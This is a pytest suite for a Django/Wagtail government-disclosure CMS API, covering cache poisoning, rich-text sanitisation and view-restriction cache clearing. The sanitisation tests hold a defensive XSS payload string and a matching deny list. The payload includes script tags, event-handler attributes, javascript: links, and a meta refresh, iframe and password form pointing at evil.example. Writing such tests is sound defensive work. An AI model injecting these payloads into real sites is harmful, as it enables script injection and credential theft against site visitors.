"""Issue 12: the public API cache serves JSON clients JSON only; rich text is sanitised on every
write path of the drafts API and on output of the public API."""

import pytest
from django.core.cache import cache
from django.http import HttpResponse
from django.test import RequestFactory
from rest_framework.test import APIClient

from cms.middleware import PublicAPICacheMiddleware
from pages.models import DisclosureEntry
from workflows import services

from ..factories import make_user, new_entry


@pytest.fixture
def public_cache(settings):
    settings.PUBLIC_API_CACHE = True
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def published(catalog, portal):
    leader = make_user("hardening_leader", portal.leaders_group)
    entry = new_entry(catalog["budget"], title="缓存格式测试")
    services.force_publish(entry, leader, "测试数据")
    return DisclosureEntry.objects.get(pk=entry.pk)


# -- finding 3: one HTML request must not poison the cache for JSON clients ---------------------


@pytest.mark.parametrize("path", ["/api/v2/entries/", "/api/v2/portals/", "/api/v2/entries/{pk}/"])
def test_an_html_request_never_poisons_the_cache_for_json_clients(public_cache, published, path):
    path = path.format(pk=published.pk)
    browser = APIClient().get(path, HTTP_ACCEPT="text/html,application/xhtml+xml,*/*;q=0.8")
    assert browser.status_code == 200
    assert browser["Content-Type"].startswith("application/json")  # anonymous: no browsable API
    strict_html = APIClient().get(path, HTTP_ACCEPT="text/html")
    assert not strict_html["Content-Type"].startswith("text/html")
    for accept in ("application/json", "*/*", None):
        extra = {"HTTP_ACCEPT": accept} if accept else {}
        response = APIClient().get(path, **extra)
        assert response.status_code == 200 and response["Content-Type"].startswith("application/json"), accept
        response.json()


def test_the_browsable_api_remains_for_signed_in_staff(public_cache, published, users):
    client = APIClient()
    client.force_login(users["admin"])
    response = client.get("/api/v2/entries/", HTTP_ACCEPT="text/html")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
    # ... and what staff saw is not what the anonymous public then gets from the cache.
    anonymous = APIClient().get("/api/v2/entries/")
    assert anonymous["Content-Type"].startswith("application/json")


def test_the_cache_never_stores_html(public_cache):
    html = PublicAPICacheMiddleware(lambda r: HttpResponse("<html>staff view</html>", content_type="text/html"))
    html(RequestFactory().get("/api/v2/entries/"))
    json_view = PublicAPICacheMiddleware(lambda r: HttpResponse(b"{}", content_type="application/json"))
    assert json_view(RequestFactory().get("/api/v2/entries/")).content == b"{}"


# -- finding 5: rich text is sanitised on every write of the drafts API, and on public output ----

HOSTILE = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<p onclick="steal()">预算<b>说明</b><i>附</i></p>'
    '<img src="x" onerror="alert(1)">'
    "<script>alert(2)</script><style>body{display:none}</style>"
    '<iframe src="https://evil.example/"></iframe>'
    '<a href="javascript:alert(3)">点我</a>'
    '<a href="https://www.gov.cn/" target="_blank" onmouseover="x()">中国政府网</a>'
    '<a linktype="page" id="3">内部链接</a>'
    '<h2 style="color:red">标题</h2><ul><li>一</li></ul><hr>'
    '<embed embedtype="image" id="1" format="left" alt="图" onload="x()">'
    '<form action="https://evil.example/"><input name="pw"></form>'
)
DANGEROUS = ["<meta", "onclick", "onerror", "<img", "<script", "alert(2)", "<style", "<iframe", "javascript:"]
DANGEROUS += ["target=", "onmouseover", "style=", "onload", "<form", "<input"]
KEPT = ["<p>预算<b>说明</b><i>附</i></p>", '<a href="https://www.gov.cn/">中国政府网</a>', "<h2>标题</h2>"]
KEPT += ['<a linktype="page" id="3">内部链接</a>', "<ul><li>一</li></ul>", "<hr>", 'embedtype="image"']


def assert_sanitised(html):
    for needle in DANGEROUS:
        assert needle not in html, (needle, html)
    for needle in KEPT:
        assert needle in html, (needle, html)


def test_drafts_api_stores_only_sanitised_rich_text(catalog, users):
    api = APIClient()
    api.force_authenticate(users["finance_editor"])
    created = api.post(
        "/api/v2/drafts/", {"parent": catalog["budget"].pk, "title": "含有害标记的草稿", "body": HOSTILE}, format="json"
    )
    assert created.status_code == 201, created.json()
    entry = DisclosureEntry.objects.get(pk=created.json()["id"])
    assert_sanitised(entry.body)
    assert_sanitised(entry.get_latest_revision_as_object().body)
    assert_sanitised(created.json()["body"])

    patched = api.patch(f"/api/v2/drafts/{entry.pk}/", {"body": HOSTILE + "<p>修改</p>"}, format="json")
    assert patched.status_code == 200, patched.json()
    revision_body = DisclosureEntry.objects.get(pk=entry.pk).get_latest_revision_as_object().body
    assert_sanitised(revision_body) and "<p>修改</p>" in revision_body
    assert_sanitised(api.get(f"/api/v2/drafts/{entry.pk}/").json()["body"])


def test_old_unsanitised_bodies_are_sanitised_on_public_output(published, client):
    # Stored before this fix (no signal, no revision): the public API and page still serve it clean.
    DisclosureEntry.objects.filter(pk=published.pk).update(body=HOSTILE)
    body = APIClient().get(f"/api/v2/entries/{published.pk}/").json()["body"]
    assert_sanitised(body)
    page = client.get(published.url).content.decode()
    article = page.split("<article", 1)[1].split(">", 1)[1].split("</article>", 1)[0]
    for needle in DANGEROUS:
        assert needle not in article, needle
    assert "中国政府网" in article and "<h2>标题</h2>" in article


def test_tables_the_system_writes_survive_public_output(published):
    table = (
        '<h2>二、主动公开政府信息情况</h2><table class="annual-table"><tr><th colspan="2">信息内容</th></tr></table>'
    )
    DisclosureEntry.objects.filter(pk=published.pk).update(body=table)
    body = APIClient().get(f"/api/v2/entries/{published.pk}/").json()["body"]
    assert '<table class="annual-table">' in body and '<th colspan="2">信息内容</th>' in body


# -- Low: a move into a view-restricted section leaves the cached answers at once -----------------


def test_moving_an_entry_under_a_view_restriction_leaves_cached_answers(public_cache, published, catalog):
    from wagtail.models import PageViewRestriction

    api = APIClient()
    detail = f"/api/v2/entries/{published.pk}/"
    assert published.pk in [e["id"] for e in api.get("/api/v2/entries/").json()["results"]]
    assert api.get(detail).status_code == 200  # both answers now cached
    PageViewRestriction.objects.create(
        page=catalog["dibao"], restriction_type=PageViewRestriction.PASSWORD, password="内部"
    )
    published.move(catalog["dibao"], pos="last-child", user=None)
    assert published.pk not in [e["id"] for e in api.get("/api/v2/entries/").json()["results"]]
    assert api.get(detail).status_code == 404
